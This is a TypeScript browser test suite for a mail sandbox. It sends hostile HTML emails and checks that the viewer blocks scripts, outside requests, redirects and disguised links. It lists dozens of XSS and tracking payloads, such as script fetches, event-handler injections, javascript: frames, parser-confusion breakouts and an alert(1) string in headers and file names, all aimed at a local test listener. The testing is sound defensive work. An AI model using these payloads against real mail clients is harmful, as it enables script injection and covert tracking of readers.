import { createServer, type Server } from 'node:net';
import { createTransport } from 'nodemailer';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Sandbox, startSandbox } from '../src/index.ts';
import { chromiumNote, hasChromium, launchChromium } from './chromium.ts';

/**
 * Mails that want to run a script or to tell somebody that they were read; `URL` is where that somebody
 * listens.
 */
const hostileMails: readonly (readonly [name: string, html: string])[] = [
  ['script', '<script>fetch("URL/a");parent.document.title="pwned"</script>'],
  ['script from outside', '<script src="URL/x.js"></script>'],
  ['module script', '<script type="module">import "URL/m.js"</script>'],
  [
    'speculation rules',
    '<script type="speculationrules">{"prefetch":[{"urls":["URL/s"],"eagerness":"immediate"}]}</script>',
  ],
  ['event attribute', '<img src="data:," onerror="location=\'URL/e\'">'],
  ['svg onload', '<svg onload="fetch(\'URL/svg\')"><image href="URL/i.svg"/><use href="URL/u.svg#a"/></svg>'],
  ['autofocus', '<input autofocus onfocus="fetch(\'URL/f\')">'],
  ['details', '<details open ontoggle="fetch(\'URL/t\')">x</details>'],
  ['body onload', '<body onload="fetch(\'URL/b\')" background="URL/bg.png">'],
  [
    'picture',
    '<img src="URL/pixel.gif" srcset="URL/2x.gif 2x"><picture><source srcset="URL/s.webp"><img></picture>',
  ],
  ['lazy picture', '<img loading="lazy" src="URL/lazy.gif">'],
  ['protocol-relative picture', '<img src="//HOST/rel.gif">'],
  ['input picture', '<input type="image" src="URL/in.gif">'],
  ['style sheet', '<link rel="stylesheet" href="URL/s.css">'],
  [
    'preconnect',
    '<link rel="preconnect" href="URL"><link/rel=preconnect href="URL"><LINK REL="preconnect" HREF="URL">',
  ],
  [
    'preconnect in a broken tag',
    '<<link rel="preconnect" href="URL"><link title=">" rel="preconnect" href="URL">',
  ],
  [
    'prefetch',
    '<link rel="prefetch" href="URL/p"><link rel="preload" as="image" href="URL/pl"><link ' +
      'rel="modulepreload" href="URL/mp">',
  ],
  [
    'dns-prefetch',
    '<link rel="dns-prefetch" href="//leak.invalid"><meta http-equiv="x-dns-prefetch-control" content="on">',
  ],
  ['icon', '<link rel="icon" href="URL/icon"><link rel="manifest" href="URL/m.json">'],
  ['css url', '<div style="background:url(URL/css.png);width:9px;height:9px">x</div>'],
  [
    'css import',
    '<style>@import "URL/i.css"; @font-face{font-family:f;src:url(URL/f.woff2)} *{font-family:f;' +
      'cursor:url(URL/c.cur),auto} a{list-style-image:url(URL/l)}</style><p>x',
  ],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=URL/refresh">'],
  [
    'meta policy',
    '<meta http-equiv="Content-Security-Policy" content="script-src *"><script>fetch("URL/c")</script>',
  ],
  ['base', '<base href="URL/"><img src="based.gif">'],
  ['frame', '<iframe src="URL/frame"></iframe><iframe srcdoc="<img src=\'URL/sd\'>"></iframe>'],
  ['frame with a script URL', '<iframe src="javascript:parent.fetch(\'URL/j\')"></iframe>'],
  ['frame set', '<frameset><frame src="URL/fs"></frameset>'],
  ['object', '<object data="URL/o"></object><embed src="URL/em"><applet code="URL/ap"></applet>'],
  [
    'media',
    '<video src="URL/v" poster="URL/po" autoplay></video><audio src="URL/au" autoplay></audio><track ' +
      'src="URL/tr">',
  ],
  ['form', '<form id="f" action="URL/form" method="post"><input name="a"></form><script>f.submit()</script>'],
  ['template', '<template shadowrootmode="open"><img src="URL/sh.gif"></template>'],
  ['mathml', '<math><mtext><table><mglyph><style><img src="URL/mu" onerror="fetch(\'URL/mx\')">'],
  ['comment tricks', '<!--><img src="URL/co1">--><!--[if gte IE 4]><img src="URL/co2"><![endif]-->'],
  ['noscript', '<noscript><img src="URL/ns"></noscript>'],
  ['data document', '<iframe src="data:text/html,<script>fetch(\'URL/d\')</script>"></iframe>'],
  ['escape from the frame', '<a id="l" href="URL/top" target="_top">x</a><script>l.click()</script>'],
  ['portal', '<portal src="URL/portal"></portal><fencedframe src="URL/ff"></fencedframe>'],
  [
    'svg in a data picture',
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='URL/ds'/>" +
      "<script>fetch('URL/dj')</script></svg>\">",
  ],
];

/** Links that hide from a search for `<a href`, and what else may lead away when it is pressed. */
const linksInDisguise: readonly (readonly [name: string, html: string])[] = [
  ['plain', '<a href="URL/a">press me</a>'],
  ['a quoted ">"', '<a title=">" href="URL/q">press me</a>'],
  ['a "<" in the tag', '<a title="<b" href="URL/lt">press me</a>'],
  ['slashes for spaces', '<a/title/href="URL/s">press me</a>'],
  ['line breaks', '<A\n\tHREF\n=\nURL/n>press me</A>'],
  ['a new window', '<a href="URL/w" target="_blank" ping="URL/p">press me</a>'],
  ['the page', '<a href="URL/t" target="_top">press me</a>'],
  ['svg', '<svg width="300" height="50"><a href="URL/svg"><text y="20">press me</text></a></svg>'],
  ['svg xlink', '<svg width="300" height="50"><a xlink:href="URL/x"><text y="20">press me</text></a></svg>'],
  [
    'svg animation',
    '<svg width="300" height="50"><a><animate attributeName="href" values="URL/an"/><text y="20">press ' +
      'me</text></a></svg>',
  ],
  [
    'svg set',
    '<svg width="300" height="50"><a id="l"><text y="20">press me</text></a><set href="#l" ' +
      'attributeName="href" to="URL/set"/></svg>',
  ],
  ['svg cdata', '<svg><![CDATA[><a href="URL/cd">press me</a>]]></svg>'],
  ['mathml', '<math href="URL/m"><mtext>press me</mtext></math>'],
  [
    'map',
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="press me" width="99" height="50" usemap="#m">
     <map name="m"><area shape="default" href="URL/area"></map>`,
  ],
  ['comment that ends early', '<!--><a href="URL/c">press me</a>-->'],
  ['style that ends early', '<style><a title="</style><a href=URL/st>press me</a>">'],
  ['svg style', '<svg><style><a title="</style><a href=URL/ss>press me</a>"></style></svg>'],
  ['mathml style', '<math><mtext><table><mglyph><style><!--</style><a href="URL/ms">press me</a>'],
  ['title that ends early', '<title><a title="</title><a href=URL/ti>press me</a>"></title>'],
  ['noscript', '<noscript><a href="URL/ns">press me</a></noscript>'],
  ['table', '<table><a href="URL/tb">press me<tr><td></td></tr></a></table>'],
  ['base', '<base href="URL/"><a href="relative">press me</a>'],
  ['form', '<form action="URL/f"><button>press me</button></form>'],
  [
    'form elsewhere',
    '<form id="f" action="URL/fe"></form><button form="f" formaction="URL/fa">press me</button>',
  ],
  [
    'picture button',
    '<form action="URL/pb"><input type="image" alt="press me" src="URL/i" height="40"></form>',
  ],
];

describe.skipIf(!hasChromium)(`S2: hostile mail in a real browser${chromiumNote}`, () => {
  let sandbox: Sandbox;
  let browser: Browser;
  let page: Page;
  let listener: Server;
  let url: string;
  let connections = 0;
  const outside: string[] = [];
  const dialogs: string[] = [];

  beforeAll(async () => {
    // Whoever connects has told too much, even without a request.
    listener = createServer((socket) => {
      connections += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const address = listener.address();
    url = `http://127.0.0.1:${typeof address === 'object' ? address?.port : 0}`;
    sandbox = await startSandbox({ routing: false, realtime: false });
    browser = await launchChromium();
    page = await browser.newPage();
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const own = sandbox.page?.url ?? '';
    page.on('requestfinished', (request) => {
      if (!request.url().startsWith(own) && !request.url().startsWith('data:')) outside.push(request.url());
    });
    await page.goto(own);
  });
  afterAll(async () => {
    await browser?.close();
    await sandbox?.close();
    await new Promise((resolve) => listener.close(resolve));
  });

  async function open(html: string, subject: string, extra: object = {}): Promise<void> {
    const { host, port, user, password } = sandbox.mail?.smtp ?? {
      host: '',
      port: 0,
      user: '',
      password: '',
    };
    const transport = createTransport({ host, port, auth: { user, pass: password }, ignoreTLS: true });
    await transport.sendMail({ from: 'a@example.com', to: 'b@example.com', subject, html, ...extra });
    transport.close();
    const message = await sandbox.mail?.mailbox.waitFor(({ parsed }) => parsed.subject === subject);
    const shown = page.waitForResponse((response) => response.url().endsWith(`/${message?.id}/html`));
    await page.evaluate((id) => {
      location.hash = `#/inbox/${id}`;
    }, message?.id);
    const response = await shown;
    await response.finished();
    expect(response.ok(), 'the message is shown').toBe(true);
    // Not by its address: a navigation that the policy refuses may have changed it already.
    await response.frame().waitForLoadState('load');
  }

  it.each(hostileMails)('%s', async (name, html) => {
    const before = connections;
    const text = html.replaceAll('URL', url).replaceAll('HOST', url.slice(7));
    await open(`${text}<p>${name}</p>`, `hostile: ${name}`);
    // Two frames of the page's own life: what an attack starts at load has started by now.
    await page.evaluate(
      () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
    );
    expect(connections - before).toBe(0);
    expect(outside).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(page.url().startsWith(sandbox.page?.url ?? '-')).toBe(true);
    // With the number of unread mails, until the page has marked this one.
    expect(await page.title()).toMatch(/^(?:\(\d+\) )?Inbox · Sandbox$/);
  });

  it.each(linksInDisguise)('a link that is pressed leads nowhere: %s', async (name, html) => {
    const before = connections;
    await open(html.replaceAll('URL', url), `pressed: ${name}`);
    const frame = page.frameLocator('iframe');
    const target = frame.getByText('press me').or(frame.getByAltText('press me')).first();
    const box = await target.boundingBox();
    expect(box, 'there is something to press').not.toBeNull();
    for (const button of ['left', 'middle'] as const)
      await page.mouse.click((box?.x ?? 0) + 10, (box?.y ?? 0) + 8, { button });
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await page.evaluate(
      () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))),
    );
    expect(connections - before).toBe(0);
    expect(page.context().pages()).toHaveLength(1);
    expect(await frame.locator('[href], [*|href]').count()).toBe(0);
  });

  it('keeps the look of an ordinary mail', async () => {
    const html = `<!DOCTYPE html><style><!-- .a > b { color: rgb(1, 2, 3) } --></style>
      <table bgcolor="#eeeeee"><tr>
      <td class="a" style="padding:7px">1 < 2 &amp; <b title='a "b"'>bold</b></td></tr></table>`;
    await open(html, 'ordinary');
    const bold = page.frameLocator('iframe').locator('b');
    expect(await bold.evaluate((element) => getComputedStyle(element).color)).toBe('rgb(1, 2, 3)');
    expect(await bold.getAttribute('title')).toBe('a "b"');
    expect(await page.frameLocator('iframe').locator('td').textContent()).toBe('1 < 2 & bold');
  });

  it('subject, sender and file name are shown as text', async () => {
    const attack = '<img src=x onerror=alert(1)>"\'><script>alert(2)</script>';
    await open('<p>x</p>', attack, {
      from: { name: attack, address: 'a@example.com' },
      attachments: [{ filename: attack, content: 'x' }],
    });
    expect(await page.locator('.reader h2').textContent()).toBe(attack);
    expect(await page.locator('#content script, #content img').count()).toBe(0);
    expect(dialogs).toEqual([]);
  });

  it('pictures that came with the mail are shown', async () => {
    const png =
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
    await open('<img id="own" src="cid:dot@example.com">', 'own picture', {
      attachments: [{ filename: 'dot.png', content: Buffer.from(png, 'base64'), cid: 'dot@example.com' }],
    });
    const source = await page.frameLocator('iframe').locator('#own').getAttribute('src');
    expect(source).toBe(`data:image/png;base64,${png}`);
    const box = await page.frameLocator('iframe').locator('#own').boundingBox();
    expect(box).toMatchObject({ width: 1, height: 1 });
  });

  it('the listener would have noticed: an unprotected page connects to it', async () => {
    const before = connections;
    const bare = await browser.newPage();
    await bare.setContent(`<img src="${url}/control.gif">`, { waitUntil: 'load' });
    await bare.close();
    expect(connections).toBeGreaterThan(before);
  });
});
